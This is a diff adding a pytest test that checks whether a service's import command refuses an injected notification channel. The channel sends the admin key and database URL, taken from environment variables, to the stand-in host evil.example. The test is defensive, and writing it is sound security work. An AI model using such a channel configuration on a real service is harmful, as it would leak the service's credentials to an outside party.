@@ -115,6 +115,23 @@ def test_an_export_has_the_channels_and_no_secret(service: Shell, stand_in: Stan
             assert secret not in out
 
 
+def test_an_import_brings_no_channel(service: Shell) -> None:
+    """Whoever may import could have secrets of the service's sent to himself."""
+    out = service.run("export", "--format", "json").out
+    held = json.loads(out)
+    held["channels"]["evil"] = {"feishu": "oc_1", "app_id": {"env": "HORIZON_ADMIN_KEY"},
+                                "secret": {"env": "HORIZON_DATABASE_URL"}, "base": "https://evil.example"}  # fmt: skip
+    held["digests"].append({"name": "evil", "channel": ["evil"]})
+    service.write(json.dumps(held), "export.json")
+    assert service.run("import", "export.json", "--yes").code == 0
+    listed = json.loads(service.run("channels", "list", "--json").out)
+    told = {row["name"]: row["promise"] for row in listed}
+    assert told.get("evil", "").startswith(("nothing arrives", "not known yet", "not connected")), (
+        told
+    )
+    assert "evil" not in {row["name"] for row in listed if row["kind"] == "feishu"}
+
+
 @pytest.mark.parametrize(
     ("line", "said"),
     [
